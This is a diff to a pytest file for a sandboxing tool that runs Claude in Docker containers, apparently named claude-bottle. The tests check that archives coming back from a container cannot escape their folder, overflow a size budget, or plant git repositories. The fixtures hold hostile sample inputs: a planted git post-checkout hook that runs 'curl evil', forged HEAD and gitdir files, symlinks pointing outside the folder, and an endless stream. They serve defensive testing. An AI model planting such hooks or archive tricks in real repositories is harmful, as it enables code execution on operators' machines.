@@ -117,7 +117,7 @@ def test_what_comes_home_cannot_land_outside_or_carry_what_it_should_not(tmp_pat
         ]
     )
     dest = tmp_path / "in"
-    skipped = unpack(stream, dest)
+    skipped = unpack(stream, dest).skipped
     ws = dest / "workspace"
     assert (ws / "ok.txt").read_text() == "fine\n"
     assert (ws / "suid").stat().st_mode & 0o7000 == 0
@@ -335,7 +335,7 @@ def test_a_folder_spelled_as_a_link_is_never_written_through(tmp_path: Path) -> 
             (_info("/abs-link", tarfile.SYMTYPE, link=str(outside)), None),
         ]
     )
-    skipped = unpack(stream, tmp_path / "in")
+    skipped = unpack(stream, tmp_path / "in").skipped
     assert sorted(skipped) == sorted(["ws/A/planted.txt", "ws/\u0041\u030a/x.txt", "/abs-link"])
     assert list(outside.iterdir()) == []
     # Even without the spelling check (a name this archive did not make a link, found on disk as one),
@@ -347,7 +347,7 @@ def test_a_folder_spelled_as_a_link_is_never_written_through(tmp_path: Path) -> 
     root = os.open(tmp_path / "in2", os.O_RDONLY | os.O_DIRECTORY)
     try:
         with pytest.raises(OSError):
-            unpack_mod._folder(root, ["ws"])
+            unpack_mod._Folders(root, 10).enter(["ws"])
     finally:
         os.close(root)
     assert list(outside.iterdir()) == []
@@ -420,7 +420,7 @@ def test_on_a_remote_engine_every_control_path_is_judged_when_the_work_comes_hom
     ws = workspace(tmp_path)
     (ws / ".git").mkdir()
     m = parse_manifest(MANIFEST + 'workspace = "."\n', path=ws / "claude-bottle.toml")
-    bottle = Bottle.new(m, "claude", backend="docker")
+    bottle = Bottle.new(m, "claude", backend="docker", workspace_mode="mount")
     monkeypatch.setenv("DOCKER_HOST", "tcp://10.9.9.9:2375")
     assert DockerBottleBackend().read_only_paths(bottle) == []  # nothing is mounted read-only there
     monkeypatch.delenv("DOCKER_HOST")
@@ -486,3 +486,117 @@ def test_a_bottle_whose_engine_is_gone_for_good_can_be_forgotten(
     far.preserve_path.unlink()
     assert main(["stop", "claude-far01", "--forget"]) == 0
     assert not far.exists()
+
+
+def test_a_trip_home_over_budget_is_cut_off_kept_aside_and_not_carried_again(
+    fake_exe: Callable[[str, str], Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """The work's volume streams without end: the stop still stops, the log (its own trip) comes home, the
+    trip of the work is cut off at its budget and kept aside, the bottle is preserved with the reason and its
+    work's volumes kept; then no later trip carries it on its own, and it does not start from the older copy."""
+    from claude_bottle.backend import homecoming
+    from claude_bottle.unpack import Limits
+
+    log = tmp_path / "calls"
+    monkeypatch.setenv("LOG", str(log))
+    fake_exe(
+        "docker",
+        """
+import io, tarfile
+open(os.environ["LOG"], "a").write(" ".join(sys.argv[1:]) + "\\n")
+a = sys.argv[1:]
+if a[:2] == ["volume", "ls"]:
+    print("\\n".join(f"claude-bottle-claude-far01-{p}" for p in ("log", "home", "workspace")))
+elif a[:1] == ["run"] and a[-1] == "log":
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        body = b'{"kind":"from-the-engine"}\\n'
+        info = tarfile.TarInfo("log/egress.jsonl"); info.size = len(body)
+        tar.addfile(info, io.BytesIO(body))
+    sys.stdout.buffer.write(buf.getvalue())
+elif a[:1] == ["run"]:
+    info = tarfile.TarInfo("home/big.bin"); info.size = 2**40
+    sys.stdout.buffer.write(info.tobuf())
+    while True:
+        sys.stdout.buffer.write(b"\\0" * 65536)
+""",
+    )
+    monkeypatch.setattr(homecoming, "LIMITS", Limits(bytes=1024 * 1024))
+    state = StateDir("claude-far01")
+    _record(state)
+    state.update(images={"guard": "guard:y"})
+    (state.path / "engine.json").write_text(FAR)
+    (state.path / "compose.json").write_text("{}")
+    state.claude_home.mkdir()
+    (state.claude_home / "kept.txt").write_text("the last copy\n")
+    DockerBottleBackend().stop(state=state)
+    why = state.preserved() or ""
+    assert why.startswith("too much to bring home: from engine far (tcp://10.9.9.9:2375): more than 1.0 MiB")
+    assert "\n" not in why and "'home/big.bin'" in why
+    calls = log.read_text().splitlines()
+    assert any(" down --volumes" in c for c in calls)  # stopped and removed all the same
+    assert calls[-1] == "volume rm -f claude-bottle-claude-far01-guard claude-bottle-claude-far01-run"  # work kept
+    assert (state.path / "egress.jsonl").read_text() == '{"kind":"from-the-engine"}\n'
+    assert (state.claude_home / "kept.txt").read_text() == "the last copy\n"  # not replaced by a part
+    assert (state.path / "home-partial").is_dir() and "# stopped: more than" in state.home_skipped.read_text()
+    # Stopped: nothing travels on its own again (verify, requests, cleanup get the reason at once).
+    state.update(status="stopped")
+    before = len(log.read_text().splitlines())
+    with pytest.raises(homecoming.TripCut, match=r"^too much to bring home"):
+        DockerBottleBackend().sync(state)
+    assert len(log.read_text().splitlines()) == before
+    with pytest.raises(BottleError, match=f"keep {state.slug} --release"):
+        homecoming.refuse_start(state)
+
+
+def test_what_comes_home_holds_no_repository_and_is_settled_on_every_trip(
+    fake_exe: Callable[[str, str], Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """Issue 21 (finding 6): a trip home for `verify`, `report`, `logs` or `requests` settles the copy for git
+    before it is put in place, as `stop` and `pull` did; and no trip writes a HEAD git would accept, or a
+    `.git` that is a file or a link, into the operator's state dir."""
+    log = tmp_path / "calls"
+    monkeypatch.setenv("LOG", str(log))
+    fake_exe(
+        "docker",
+        """
+import io, tarfile
+a = sys.argv[1:]
+if a[:2] == ["volume", "ls"]:
+    print("\\n".join(f"claude-bottle-claude-far03-{p}" for p in ("log", "home", "workspace")))
+elif a[:1] == ["run"] and a[-1] == "log":
+    buf = io.BytesIO()
+    tarfile.open(fileobj=buf, mode="w").close()
+    sys.stdout.buffer.write(buf.getvalue())
+elif a[:1] == ["run"]:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        def add(name, body=b"", kind=tarfile.REGTYPE, link=""):
+            info = tarfile.TarInfo(name); info.type = kind; info.linkname = link; info.size = len(body)
+            info.mode = 0o755
+            tar.addfile(info, io.BytesIO(body))
+        add("home", kind=tarfile.DIRTYPE)
+        add("workspace", kind=tarfile.DIRTYPE)
+        add("workspace/.git/hooks/post-checkout", b"#!/bin/sh\\ncurl evil\\n")
+        add("workspace/.git/HEAD", b"ref: refs/heads/claude-bottle/claude-far03\\n")
+        add("workspace/src/HEAD", b"0123456789abcdef0123456789abcdef01234567\\n")
+        add("workspace/data/HEAD", kind=tarfile.SYMTYPE, link="refs/heads/main")
+        add("workspace/sub/.git", b"gitdir: /home/op/project/.git\\n")
+        add("workspace/notes/HEAD", b"# the head of the list\\n" + b"x" * 500)
+    sys.stdout.buffer.write(buf.getvalue())
+""",
+    )
+    state = StateDir("claude-far03")
+    _record(state, status="running")
+    state.update(images={"guard": "guard:y"})
+    (state.path / "engine.json").write_text(FAR)
+    DockerBottleBackend().sync(state)
+    home = state.home_workspace
+    assert not (home / ".git" / "HEAD").exists() and not (home / "src" / "HEAD").exists()
+    assert not (home / "data" / "HEAD").is_symlink() and not (home / "sub" / ".git").exists()
+    assert (home / "notes" / "HEAD").read_bytes() == b"# the head of the list\n" + b"x" * 500  # whole, kept
+    assert not (home / ".git" / "hooks" / "post-checkout").exists()  # settled on this trip, not only at stop
+    assert state.preserved() == "git-quarantine"
+    refused = state.home_skipped.read_text()
+    for name in ("workspace/.git/HEAD", "workspace/src/HEAD", "workspace/data/HEAD", "workspace/sub/.git"):
+        assert name in refused, refused
